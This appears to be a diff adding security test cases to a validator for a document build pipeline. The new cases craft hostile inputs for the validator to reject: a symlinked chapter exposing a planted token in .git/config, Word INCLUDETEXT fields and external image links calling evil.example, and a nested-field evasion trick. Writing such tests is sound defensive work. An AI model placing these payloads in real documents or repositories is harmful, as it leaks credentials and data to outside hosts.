@@ -207,6 +207,13 @@ def frame_part(part: str, old: str, new: str) -> Callable[[Path], tuple[str, int
     return mutate
 
 
+def chapter_into_git(root: Path) -> tuple[str, int]:
+    """What actions/checkout leaves in .git/config: a token a symlinked chapter would publish."""
+    (root / ".git").mkdir(exist_ok=True)
+    (root / ".git/config").write_text('[http "https://github.com/"]\n\textraheader = AUTHORIZATION: basic SECRETTOKEN123\n', encoding="utf-8")
+    return symlink("manual_src/manual/11_zz.rst", "../../.git/config")(root)
+
+
 def frame_macros(root: Path) -> tuple[str, int]:
     with zipfile.ZipFile(root / FRAME, "a", zipfile.ZIP_DEFLATED) as archive:
         archive.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"\0" * 508)
@@ -242,6 +249,9 @@ CASES = [
     Case("frame-attached-template", frame_part("word/settings.xml", '<w:zoom w:percent="100"/>', '<w:zoom w:percent="100"/><w:attachedTemplate r:id="rId99"/>'), "<attachedTemplate> loads a template"),
     Case("frame-external-relationship", frame_part("word/_rels/document.xml.rels", 'Target="http://example.com"', 'Target="file:///etc/passwd"'), "an external link to 'file:///etc/passwd' is not allowed"),
     Case("frame-macros", frame_macros, "word/vbaProject.bin: macros"),
+    Case("frame-single-quoted-field", frame_part("word/footer1.xml", "</w:ftr>", "<w:p><w:fldSimple w:instr='INCLUDETEXT \"\\\\evil.example\\share\\x.docx\"'/></w:p></w:ftr>"), "the field 'INCLUDETEXT"),
+    Case("frame-nested-field", frame_part("word/footer1.xml", " PAGE ", ' INCLUDETEXT "</w:instrText></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText>" '), "the field 'INCLUDETEXT"),
+    Case("frame-single-quoted-relationship", frame_part("word/_rels/document.xml.rels", "</Relationships>", "<Relationship Id='rIdEvil' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/image' Target='http://evil.example/t.png' TargetMode='External'/></Relationships>"), "an external link to 'http://evil.example/t.png'"),
     Case("frame-fails-when-it-runs", frame_part("word/footer1.xml", "{{ L.page }}", "{{ L.page }}{{ 1/0 }}"), "the frame fails when it runs (ZeroDivisionError"),
     Case("reference-not-docx", lambda root: write(root, "policy_templates/word/reference.docx", b"not a zip"), "not a Word document"),
     # ---- templates: no code, no files, budgets
@@ -291,6 +301,7 @@ CASES = [
     Case("policy-file-escape", policy_file("../../../../etc/passwd"), "outside the repository"),
     Case("policy-file-absolute", policy_file("/etc/passwd"), "outside the repository"),
     Case("chapter-symlink-out", symlink("manual_src/manual/11_extra.rst", "/etc/passwd"), "outside the repository"),
+    Case("chapter-symlink-into-git", chapter_into_git, "leads into .git/"),
     Case("control-symlink-out", symlink("controls/5.15.yaml", "/etc/hostname"), "outside the repository"),
     Case("profile-symlink-out", symlink("manual_src/profile.yaml", "/etc/hostname"), "outside the repository"),
     # ---- no active content on the auditors' site
